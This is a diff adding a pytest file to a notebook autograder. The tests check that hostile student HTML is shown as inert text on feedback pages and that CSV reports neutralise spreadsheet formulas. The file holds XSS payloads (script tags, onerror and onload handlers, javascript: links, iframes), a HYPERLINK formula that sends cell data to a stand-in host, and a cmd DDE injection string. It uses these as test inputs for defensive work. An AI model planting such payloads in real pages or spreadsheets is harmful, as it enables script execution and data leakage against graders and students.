@@ -1,0 +1,190 @@
+"""Student HTML is inert where people look (issue 11 class 5, DESIGN.md rule 10).
+
+A submission whose written answer, extra markdown cell and code outputs carry scripts, on*
+handlers, javascript: links, iframes and forms is graded with the real `nbgrader autograde`
+and `nbgrader generate_feedback`; its feedback page has no executable script of the
+student's but still shows the course's math and plots. The per-item CSV of
+`python -m autograder.reports` has no cell that starts a formula. (The formgrader page of
+the same submission: tests/browser/test_formgrader_inert.py.)
+"""
+import csv
+import re
+from html.parser import HTMLParser
+
+import nbformat
+import pytest
+
+from autograder import reports
+from autograder.course import REPO_ROOT, Course
+from autograder.safe_text import csv_cell, escape_html, escape_markdown
+from autograder.submissions import filled_in
+
+ASSIGNMENT = "01_rnn"
+STUDENT = "mallory"
+MARK = "PWNED"  # every payload sets document.title to a string starting with this
+
+MARKDOWN_PAYLOAD = f"""
+
+<img src=x onerror="document.title='{MARK}-img'"> <script>document.title='{MARK}-script'</script>
+[click me](javascript:document.title='{MARK}-link') <iframe src="javascript:parent.document.title='{MARK}-iframe'"></iframe>
+<form action="/api/contents"><button formaction="javascript:document.title='{MARK}-form'">x</button></form>
+<object data="javascript:document.title='{MARK}-object'"></object>
+<a href="#" onclick="document.title='{MARK}-click'" style="position:fixed;inset:0">overlay</a>
+"""
+
+CODE_PAYLOAD = f"""
+from IPython.display import HTML, Javascript, Markdown, display
+display(HTML('<b onmouseover="document.title=1">hover</b><img src=x onerror="document.title=\\'{MARK}-html\\'"><script>document.title="{MARK}-html-script"</script>'))
+display(Markdown('<img src=x onerror="document.title=\\'{MARK}-md-output\\'">'))
+display(Javascript('document.title="{MARK}-js"'))
+display({{"image/png": "iVBORw0KGgo="}}, raw=True,
+        metadata={{"image/png": {{"width": "1 onerror=document.title='{MARK}-width'"}}}})
+display({{"text/html": '<svg onload="document.title=\\'{MARK}-svg\\'"></svg>'}}, raw=True)
+"""
+
+
+def hostile_notebook():
+    """01_rnn filled in correctly, with hostile HTML in a written answer, a new markdown
+    cell and the outputs of an answer cell; rnn_forward is left blank (a failed item)."""
+    nb = filled_in(ASSIGNMENT)
+    blank = nbformat.read(REPO_ROOT / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
+    blank_source = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in blank.cells}
+    for cell in nb.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if grade_id == "time_series_answer":
+            cell.source += MARKDOWN_PAYLOAD
+        elif grade_id == "conv_answer_code":
+            cell.source += "\n" + CODE_PAYLOAD
+        elif grade_id == "rnn_forward_code":
+            cell.source = blank_source[grade_id]
+    nb.cells.insert(1, nbformat.v4.new_markdown_cell(
+        f"My notes $x$ <details open ontoggle=\"document.title='{MARK}-toggle'\">x</details>"
+        + MARKDOWN_PAYLOAD))
+    return nb
+
+
+class PageScan(HTMLParser):
+    """What could run in a page: inline scripts, script URLs, on* handlers, javascript:
+    URLs, frames, plugins and forms; plus the CSP <meta> and the images shown."""
+
+    RUNNABLE_TAGS = {"iframe", "frame", "object", "embed", "form", "base", "applet"}
+
+    def __init__(self, text):
+        super().__init__(convert_charrefs=True)
+        self.inline_scripts, self.script_srcs, self.problems = [], [], []
+        self.csp, self.images, self.depth = [], [], 0
+        self._in_script = None
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        attrs = dict(attrs)
+        if tag == "script":
+            if attrs.get("src"):
+                self.script_srcs.append(attrs["src"])
+            self._in_script = ""
+        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "content-security-policy":
+            self.csp.append(attrs.get("content", ""))
+        if tag == "img":
+            self.images.append(attrs.get("src") or "")
+        if tag in self.RUNNABLE_TAGS:
+            self.problems.append(f"<{tag}>")
+        for name, value in attrs.items():
+            if name.startswith("on"):
+                self.problems.append(f"<{tag} {name}={value!r}>")
+            if name in ("href", "src", "action", "formaction", "data") and value and \
+                    re.sub(r"\s", "", value).lower().startswith(("javascript:", "vbscript:")):
+                self.problems.append(f"<{tag} {name}={value!r}>")
+
+    def handle_data(self, data):
+        if self._in_script is not None:
+            self._in_script += data
+
+    def handle_endtag(self, tag):
+        if tag == "script" and self._in_script is not None:
+            self.inline_scripts.append(self._in_script)
+            self._in_script = None
+
+
+def assert_inert(page_html, where):
+    scan = PageScan(page_html)
+    assert not scan.problems, f"{where}: runnable student markup: {scan.problems[:10]}"
+    student_scripts = [s for s in scan.inline_scripts if MARK in s]
+    assert not student_scripts, f"{where}: the student's scripts are in the page: {student_scripts}"
+    assert scan.csp, f"{where}: no Content-Security-Policy <meta>"
+    script_src = next(d for d in scan.csp[0].split(";") if d.strip().startswith("script-src"))
+    assert "'unsafe-inline'" not in script_src and "*" not in script_src.split()
+    return scan
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    course = Course.create(tmp_path_factory.mktemp("inert") / "course", [ASSIGNMENT])
+    course.submit(STUDENT, ASSIGNMENT, hostile_notebook())
+    course.autograde(ASSIGNMENT)
+    course.generate_feedback(ASSIGNMENT)
+    return course
+
+
+@pytest.mark.nbgrader
+def test_the_feedback_page_runs_nothing_of_the_students(graded):
+    page = graded.root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
+    text = page.read_text()
+    # what the student wrote is shown, as text, for the grader to see
+    assert f"&lt;script&gt;document.title='{MARK}-script'&lt;/script&gt;" in text
+    assert_inert(text, "feedback")
+
+
+@pytest.mark.nbgrader
+def test_the_feedback_page_still_shows_math_and_plots(graded):
+    page = graded.root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
+    scan = PageScan(page.read_text())
+    # the course's own math is left for MathJax ($W$ in the written answer), MathJax loads
+    assert "$W$" in page.read_text()
+    assert any("mathjax" in src.lower() for src in scan.script_srcs)
+    assert any("window.MathJax" in s and "inlineMath" in s for s in scan.inline_scripts)
+    # PNG outputs stay images (the student's display of a PNG)
+    assert any(src.startswith("data:image/png;base64,") for src in scan.images)
+    # the scores (nbgrader's own feedback markup) are still there
+    assert "rnn_forward" in page.read_text()
+
+
+@pytest.mark.nbgrader
+def test_the_per_item_csv_never_starts_a_formula(graded, monkeypatch):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"see hint")'
+    real = reports.misconceptions
+
+    def hints_from_a_hostile_problem(root, assignment, student):
+        return {**real(root, assignment, student), "rnn_forward": formula,
+                "rnn_step_forward": "+cmd|' /C calc'!A0"}
+
+    monkeypatch.setattr(reports, "misconceptions", hints_from_a_hostile_problem)
+    assert reports.main([ASSIGNMENT, "--root", str(graded.root), "--out", "reports"]) == 0
+    out = graded.root / "reports"
+    for name in (f"{ASSIGNMENT}-items.csv", "canvas.csv", "moodle.csv"):
+        with open(out / name, newline="") as f:
+            rows = list(csv.reader(f))
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, row)
+    items = (out / f"{ASSIGNMENT}-items.csv").read_text()
+    assert "'=HYPERLINK" in items  # shown, as text
+    report = (out / f"{ASSIGNMENT}-report.html").read_text()
+    assert "=HYPERLINK(&quot;http" in report
+
+
+def test_escape_markdown_shows_a_hostile_file_name_as_text():
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    for name in ["<img src=x onerror=alert(1)>.ipynb", "[x](javascript:alert(1)).py",
+                 "a\n# b\n<script>alert(1)</script>", "*_`x`_* ![i](x) <!-- c -->"]:
+        rendered = markdown2html_mistune(escape_markdown(name))
+        scan = PageScan(rendered)
+        assert not scan.problems and not scan.inline_scripts, (name, rendered)
+        assert not re.search(r"<(?!/?p>)", rendered), (name, rendered)  # only the paragraph
+    assert escape_html('<a href="x">') == "&lt;a href=&quot;x&quot;&gt;"
+
+
+def test_csv_cell_prefixes_what_a_spreadsheet_would_evaluate():
+    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("alice") == "alice" and csv_cell(3) == 3 and csv_cell("") == ""
